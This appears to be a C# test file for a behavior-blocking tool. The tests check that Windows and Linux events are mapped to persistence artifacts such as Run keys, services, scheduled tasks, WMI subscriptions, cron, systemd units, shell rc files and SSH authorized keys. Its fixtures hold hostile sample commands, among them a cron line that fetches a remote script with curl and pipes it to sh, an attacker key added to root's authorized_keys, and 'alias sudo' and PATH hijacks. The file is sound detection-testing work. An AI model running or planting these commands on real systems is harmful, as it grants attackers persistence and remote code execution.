using System;
using System.Collections.Generic;
using System.Linq;
using BehaviorBlocking.Detections;
using BehaviorBlocking.Events;
using BehaviorBlocking.Response;
using BehaviorBlocking.Tests.Rules;

namespace BehaviorBlocking.Tests.Response
{
    /// <summary>What persistence one event names: Windows events through the real normalizer, Linux events as a sensor writes them.</summary>
    public sealed class PersistenceArtifactsTests : IDisposable
    {
        private const string Sysmon = "Microsoft-Windows-Sysmon/Operational";
        private readonly RuleTestKit _kit = new RuleTestKit();

        public void Dispose() => _kit.Dispose();

        private static string Describe(IReadOnlyList<PersistenceArtifact> artifacts) =>
            string.Join(" | ", artifacts.Select(a => a.Kind + " " + a.Location + " = " + (a.Entry ?? "<none>")));

        private BehaviorEvent RegistrySet(string key, string data) => _kit.Event(Sysmon, 13, 1,
            ("EventType", "SetValue"), ("ProcessGuid", "{00000000-0000-0000-0000-000000000042}"), ("ProcessId", "4242"),
            ("Image", @"C:\Users\alice\AppData\Local\Temp\payload.exe"), ("TargetObject", key), ("Details", data), ("User", @"EXAMPLE\alice"));

        private BehaviorEvent RegistryCreate(string key) => _kit.Event(Sysmon, 12, 1,
            ("EventType", "CreateKey"), ("ProcessGuid", "{00000000-0000-0000-0000-000000000700}"), ("ProcessId", "700"),
            ("Image", @"C:\Windows\system32\services.exe"), ("TargetObject", key));

        private BehaviorEvent FileCreate(string path) => _kit.Event(Sysmon, 11, 1,
            ("ProcessGuid", "{00000000-0000-0000-0000-000000000042}"), ("ProcessId", "4242"), ("Image", @"C:\Users\alice\AppData\Local\Temp\payload.exe"), ("TargetFilename", path));

        private BehaviorEvent WindowsStart(string image, string commandLine) => _kit.ProcessStart(1, 4300, image, commandLine);

        private static BehaviorEvent Linux(EventKind kind, string? path, string? commandLine = null, string user = "root", string image = "/usr/bin/bash", string? newName = null) => new BehaviorEvent
        {
            Kind = kind,
            Platform = DetectionPlatform.Linux,
            Time = RuleTestKit.T0,
            Host = "web01",
            Channel = "linux",
            ProcessId = 3100,
            Image = image,
            CommandLine = commandLine,
            User = user,
            TargetPath = path,
            TargetName = newName,
        };

        [Theory]
        [InlineData(@"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater", @"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater")]
        [InlineData(@"HKU\S-1-5-21-1004336348-1177238915-682003330-1001\Software\Microsoft\Windows\CurrentVersion\RunOnce\x", @"HKU\S-1-5-21-1004336348-1177238915-682003330-1001\Software\Microsoft\Windows\CurrentVersion\RunOnce\x")]
        [InlineData(@"HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\Run\Updater", @"HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\Run\Updater")]
        [InlineData(@"HKCU\Software\Microsoft\Windows\CurrentVersion\Policies\Explorer\Run\u", @"HKCU\Software\Microsoft\Windows\CurrentVersion\Policies\Explorer\Run\u")]
        public void From_RunValueSet_IsRunKeyWithTheDataAsEntry(string key, string location)
        {
            PersistenceArtifact artifact = Assert.Single(PersistenceArtifacts.From(RegistrySet(key, @"C:\Users\alice\AppData\Roaming\upd.exe -silent")));

            Assert.Equal(PersistenceKind.RunKey, artifact.Kind);
            Assert.Equal(location, artifact.Location);
            Assert.Equal(@"C:\Users\alice\AppData\Roaming\upd.exe -silent", artifact.Entry);
            Assert.Equal("artifact", artifact.ToEvidence(null).Kind);
            Assert.Equal("RunKey:" + location, artifact.ToEvidence(null).Id);
        }

        [Fact]
        public void From_SecurityRegistryPath_IsNormalizedToTheHiveForm()
        {
            var e = new BehaviorEvent { Kind = EventKind.RegistrySet, TargetPath = @"\REGISTRY\MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Evil", Details = @"C:\evil.exe" };

            Assert.Equal(@"RunKey HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Evil = C:\evil.exe", Describe(PersistenceArtifacts.From(e)));
        }

        [Theory]
        [InlineData(@"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunServicesX\a")] // not a Run key
        [InlineData(@"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run")] // the key's default
        [InlineData(@"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnceEx\0001\Depend\x")] // a subkey, not a value
        [InlineData(@"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\a")]
        [InlineData(@"HKLM\SYSTEM\CurrentControlSet\Services\Dnscache\Parameters\MaxCacheTtl")] // a setting of a service that exists
        [InlineData(@"HKLM\SYSTEM\CurrentControlSet\Services\Dnscache\Start")]
        public void From_OtherRegistryValues_NameNothing(string key)
        {
            Assert.Empty(PersistenceArtifacts.From(RegistrySet(key, "DWORD (0x00000001)")));
        }

        [Fact]
        public void From_RunKeyCreatedNotSet_NamesNothing()
        {
            Assert.Empty(PersistenceArtifacts.From(RegistryCreate(@"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater")));
        }

        [Fact]
        public void From_ServiceKeyCreatedOrImagePathSet_IsService()
        {
            Assert.Equal("Service evilsvc = <none>", Describe(PersistenceArtifacts.From(RegistryCreate(@"HKLM\System\CurrentControlSet\Services\evilsvc"))));
            Assert.Equal(@"Service evilsvc = %COMSPEC% /c C:\ProgramData\s.exe", Describe(PersistenceArtifacts.From(
                RegistrySet(@"HKLM\System\ControlSet001\Services\evilsvc\ImagePath", @"%COMSPEC% /c C:\ProgramData\s.exe"))));
            Assert.Empty(PersistenceArtifacts.From(RegistryCreate(@"HKLM\System\CurrentControlSet\Services\evilsvc\Parameters")));
        }

        [Fact]
        public void From_ServiceInstalledEvent_IsServiceWithItsBinary()
        {
            BehaviorEvent e = _kit.Event("System", 7045, 1, ("ServiceName", "PSEXESVC"), ("ImagePath", @"%SystemRoot%\PSEXESVC.exe"), ("AccountName", "LocalSystem"));

            Assert.Equal(EventKind.ServiceInstall, e.Kind);
            Assert.Equal(@"Service PSEXESVC = %SystemRoot%\PSEXESVC.exe", Describe(PersistenceArtifacts.From(e)));
        }

        [Theory]
        [InlineData(@"sc.exe create evilsvc binPath= ""C:\ProgramData\svc.exe"" start= auto", @"Service evilsvc = C:\ProgramData\svc.exe")]
        [InlineData(@"C:\Windows\system32\sc.exe create upd binpath= C:\x\u.exe", @"Service upd = C:\x\u.exe")]
        [InlineData(@"sc \\fileserver create evilsvc binPath= C:\x.exe", "")] // another machine's service
        [InlineData(@"sc.exe query evilsvc", "")]
        [InlineData(@"sc.exe delete evilsvc", "")]
        public void From_ScCommand_CreateNamesTheService(string commandLine, string expected)
        {
            Assert.Equal(expected, Describe(PersistenceArtifacts.From(WindowsStart(@"C:\Windows\System32\sc.exe", commandLine))));
        }

        [Theory]
        [InlineData(@"schtasks /create /sc minute /mo 5 /tn ""Microsoft\Windows\Updater"" /tr ""C:\ProgramData\u.exe -q"" /f", @"ScheduledTask \Microsoft\Windows\Updater = C:\ProgramData\u.exe -q")]
        [InlineData(@"SCHTASKS.EXE -Create -TN Evil -SC ONLOGON -TR calc.exe", @"ScheduledTask \Evil = calc.exe")]
        [InlineData(@"schtasks /create /s dc01 /tn Evil /tr calc.exe", "")] // remote
        [InlineData(@"schtasks /run /tn Evil", "")]
        [InlineData(@"schtasks /delete /tn Evil /f", "")]
        [InlineData(@"schtasks /query /fo LIST", "")]
        public void From_SchtasksCommand_CreateNamesTheTask(string commandLine, string expected)
        {
            Assert.Equal(expected, Describe(PersistenceArtifacts.From(WindowsStart(@"C:\Windows\System32\schtasks.exe", commandLine))));
        }

        [Fact]
        public void From_TaskFileAndTaskEvents_AreScheduledTasks()
        {
            Assert.Equal(@"ScheduledTask \Microsoft\Windows\Updater = <none>", Describe(PersistenceArtifacts.From(FileCreate(@"C:\Windows\System32\Tasks\Microsoft\Windows\Updater"))));

            BehaviorEvent created = _kit.Event("Security", 4698, 1, ("SubjectUserName", "alice"), ("SubjectDomainName", "EXAMPLE"), ("TaskName", @"\Evil"),
                ("TaskContent", "<?xml version=\"1.0\"?><Task><Actions><Exec><Command>C:\\ProgramData\\e.exe</Command><Arguments>-a &amp; -b</Arguments></Exec></Actions></Task>"));
            Assert.Equal(@"ScheduledTask \Evil = C:\ProgramData\e.exe -a & -b", Describe(PersistenceArtifacts.From(created)));

            BehaviorEvent deleted = _kit.Event("Security", 4699, 1, ("SubjectUserName", "alice"), ("TaskName", @"\Evil"));
            Assert.Equal(EventKind.ScheduledTask, deleted.Kind);
            Assert.Empty(PersistenceArtifacts.From(deleted));
        }

        [Theory]
        [InlineData(@"C:\Users\alice\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\update.lnk", true)]
        [InlineData(@"C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\svc.vbs", true)]
        [InlineData(@"C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\desktop.ini", false)]
        [InlineData(@"C:\ProgramData\Microsoft\Windows\Start Menu\Programs\Accessories\notepad.lnk", false)]
        [InlineData(@"C:\Users\alice\Downloads\Startup\x.exe", false)]
        public void From_FileInStartupFolder_IsStartupFile(string path, bool expected)
        {
            IReadOnlyList<PersistenceArtifact> found = PersistenceArtifacts.From(FileCreate(path));

            Assert.Equal(expected ? "StartupFile " + path + " = <none>" : string.Empty, Describe(found));
        }

        [Fact]
        public void From_SysmonWmiEvents_AreWmiSubscriptionsAndDeletionsAreNot()
        {
            BehaviorEvent filter = _kit.Event(Sysmon, 19, 1, ("Operation", "Created"), ("User", @"EXAMPLE\admin"), ("EventNamespace", " \"root\\\\cimv2\""),
                ("Name", " \"Updater\""), ("Query", " \"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\""));
            BehaviorEvent consumer = _kit.Event(Sysmon, 20, 1, ("Operation", "Created"), ("User", @"EXAMPLE\admin"), ("Name", " \"Updater\""),
                ("Type", "Command Line"), ("Destination", " \"C:\\\\ProgramData\\\\u.exe\""));
            BehaviorEvent binding = _kit.Event(Sysmon, 21, 1, ("Operation", "Created"), ("User", @"EXAMPLE\admin"),
                ("Consumer", " \"CommandLineEventConsumer.Name=\\\"Updater\\\"\""), ("Filter", " \"__EventFilter.Name=\\\"Updater\\\"\""));
            BehaviorEvent removed = _kit.Event(Sysmon, 19, 1, ("Operation", "Deleted"), ("User", @"EXAMPLE\admin"), ("Name", " \"Updater\""), ("Query", " \"x\""));

            Assert.Equal(EventKind.WmiSubscription, filter.Kind);
            Assert.StartsWith(@"WmiSubscription root\subscription:__EventFilter.Name=""Updater"" = SELECT * FROM __InstanceModificationEvent", Describe(PersistenceArtifacts.From(filter)));
            Assert.StartsWith(@"WmiSubscription root\subscription:CommandLineEventConsumer.Name=""Updater"" = C:\", Describe(PersistenceArtifacts.From(consumer)));
            Assert.StartsWith(@"WmiSubscription root\subscription:__FilterToConsumerBinding.Consumer=CommandLineEventConsumer.Name=", Describe(PersistenceArtifacts.From(binding)));
            Assert.Empty(PersistenceArtifacts.From(removed));
        }

        [Theory]
        [InlineData("/etc/crontab", EventKind.FileModify, "CronEntry /etc/crontab = <none>")]
        [InlineData("/var/spool/cron/crontabs/www-data", EventKind.FileCreate, "CronEntry /var/spool/cron/crontabs/www-data = <none>")]
        [InlineData("/var/spool/cron/root", EventKind.FileModify, "CronEntry /var/spool/cron/root = <none>")]
        [InlineData("/etc/cron.d/php-update", EventKind.FileCreate, "CronEntry /etc/cron.d/php-update = <none>")]
        [InlineData("/etc/cron.hourly/sync", EventKind.FileCreate, "CronEntry /etc/cron.hourly/sync = <none>")]
        [InlineData("/etc/cron.d/php-update", EventKind.FileModify, "")] // a changed drop-in names neither a line nor a whole file
        [InlineData("/var/spool/cron/crontabs/tmp.Xk29sd", EventKind.FileCreate, "")] // crontab -e's temporary file
        [InlineData("/var/spool/cron/atjobs", EventKind.FileCreate, "")]
        [InlineData("/etc/cron.d/sub/x", EventKind.FileCreate, "")]
        [InlineData("/etc/crontab.bak", EventKind.FileCreate, "")]
        [InlineData("/etc/systemd/system/dbus-org.service", EventKind.FileCreate, "SystemdUnit /etc/systemd/system/dbus-org.service = <none>")]
        [InlineData("/etc/systemd/system/sync.timer", EventKind.FileCreate, "SystemdUnit /etc/systemd/system/sync.timer = <none>")]
        [InlineData("/home/alice/.config/systemd/user/agent.service", EventKind.FileCreate, "SystemdUnit /home/alice/.config/systemd/user/agent.service = <none>")]
        [InlineData("/etc/systemd/system/multi-user.target.wants/dbus-org.service", EventKind.FileCreate, "")] // the enabling link: found from the unit
        [InlineData("/etc/systemd/system.conf", EventKind.FileModify, "")]
        [InlineData("/home/alice/.bashrc", EventKind.FileModify, "ShellRcLine /home/alice/.bashrc = <none>")]
        [InlineData("/root/.profile", EventKind.FileModify, "ShellRcLine /root/.profile = <none>")]
        [InlineData("/etc/profile", EventKind.FileModify, "ShellRcLine /etc/profile = <none>")]
        [InlineData("/etc/bash.bashrc", EventKind.FileModify, "ShellRcLine /etc/bash.bashrc = <none>")]
        [InlineData("/etc/profile.d/proxy.sh", EventKind.FileCreate, "ShellRcLine /etc/profile.d/proxy.sh = <none>")]
        [InlineData("/home/alice/.bashrc.swp", EventKind.FileCreate, "")]
        [InlineData("/home/alice/.ssh/authorized_keys", EventKind.FileModify, "AuthorizedKey /home/alice/.ssh/authorized_keys = <none>")]
        [InlineData("/root/.ssh/authorized_keys2", EventKind.FileCreate, "AuthorizedKey /root/.ssh/authorized_keys2 = <none>")]
        [InlineData("/root/.ssh/known_hosts", EventKind.FileModify, "")]
        [InlineData("/tmp/authorized_keys", EventKind.FileCreate, "")]
        public void From_LinuxFileWrites_MapByPath(string path, EventKind kind, string expected)
        {
            Assert.Equal(expected, Describe(PersistenceArtifacts.From(Linux(kind, path))));
        }

        [Fact]
        public void From_FileMovedIntoPlace_IsTakenAsCreatedThere()
        {
            BehaviorEvent moved = Linux(EventKind.FileRename, "/tmp/.x/job", "mv /tmp/.x/job /etc/cron.d/job", newName: "/etc/cron.d/job");
            BehaviorEvent away = Linux(EventKind.FileRename, "/etc/cron.d/job", "mv /etc/cron.d/job /root/job.bak", newName: "/root/job.bak");

            Assert.Equal("CronEntry /etc/cron.d/job = <none>", Describe(PersistenceArtifacts.From(moved)));
            Assert.Empty(PersistenceArtifacts.From(away));
        }

        [Fact]
        public void From_FileWriteWhoseCommandAppendedALine_TakesTheLine()
        {
            BehaviorEvent bashrc = Linux(EventKind.FileModify, "/home/alice/.bashrc", "bash -c \"echo 'nohup /tmp/.x/agent >/dev/null 2>&1 &' >> ~/.bashrc\"", user: "alice");
            BehaviorEvent keys = Linux(EventKind.FileModify, "/root/.ssh/authorized_keys", "sh -c 'echo \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOq attacker@kali\" >> /root/.ssh/authorized_keys'");
            BehaviorEvent crontab = Linux(EventKind.FileModify, "/etc/crontab", "sh -c \"echo '*/5 * * * * root curl -s http://203.0.113.7/s | sh' | tee -a /etc/crontab\"");

            Assert.Equal("ShellRcLine /home/alice/.bashrc = nohup /tmp/.x/agent >/dev/null 2>&1 &", Describe(PersistenceArtifacts.From(bashrc)));
            Assert.Equal("AuthorizedKey /root/.ssh/authorized_keys = ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOq attacker@kali", Describe(PersistenceArtifacts.From(keys)));
            Assert.Equal("CronEntry /etc/crontab = */5 * * * * root curl -s http://203.0.113.7/s | sh", Describe(PersistenceArtifacts.From(crontab)));
        }

        [Theory]
        [InlineData("bash -c \"echo 'export PATH=/tmp/.x:$PATH' >> /root/.bashrc\"", "root", "ShellRcLine /root/.bashrc = export PATH=/tmp/.x:$PATH")]
        [InlineData("bash -c 'echo \"alias sudo=/tmp/.s\" >> ~/.bashrc'", "alice", "ShellRcLine /home/alice/.bashrc = alias sudo=/tmp/.s")]
        [InlineData("sh -c 'echo \"export X=$HOME\" >> ~/.profile'", "root", "ShellRcLine /root/.profile = <none>")] // expands: line unknown
        [InlineData("sh -c \"echo -e 'a\\tb' >> /etc/profile\"", "root", "ShellRcLine /etc/profile = <none>")] // escapes: line unknown
        [InlineData("bash -c \"echo 'x' >> ~/.bashrc\"", "", "")] // no user: no home to resolve
        [InlineData("sh -c \"(crontab -l 2>/dev/null; echo '@reboot /tmp/.x/agent') | crontab -\"", "www-data", "CronEntry /var/spool/cron/crontabs/www-data = @reboot /tmp/.x/agent")]
        [InlineData("sh -c \"echo '* * * * * /tmp/m' | crontab -u bob -\"", "root", "CronEntry /var/spool/cron/crontabs/bob = * * * * * /tmp/m")]
        [InlineData("sh -c \"echo 'hello' >> /tmp/notes.txt\"", "root", "")]
        [InlineData("sh -c \"echo 'hello' > /root/.bashrc\"", "root", "")] // overwrite, not an appended line
        [InlineData("crontab -l", "root", "")]
        public void From_ShellCommandLines_NameAppendedLinesOnlyWhenExact(string commandLine, string user, string expected)
        {
            Assert.Equal(expected, Describe(PersistenceArtifacts.From(Linux(EventKind.ProcessStart, null, commandLine, user: user))));
        }

        [Fact]
        public void From_EventsThatNameNoPersistence_AreEmpty()
        {
            Assert.Empty(PersistenceArtifacts.From(Linux(EventKind.NetworkConnect, "/etc/crontab")));
            Assert.Empty(PersistenceArtifacts.From(Linux(EventKind.FileDelete, "/etc/crontab")));
            Assert.Empty(PersistenceArtifacts.From(FileCreate(@"C:\Users\alice\Documents\report.docx")));
            Assert.Empty(PersistenceArtifacts.From(WindowsStart(@"C:\Windows\System32\cmd.exe", "cmd.exe /c whoami")));
            Assert.False(PersistenceArtifacts.MayName(Linux(EventKind.DnsQuery, null)));
        }
    }
}
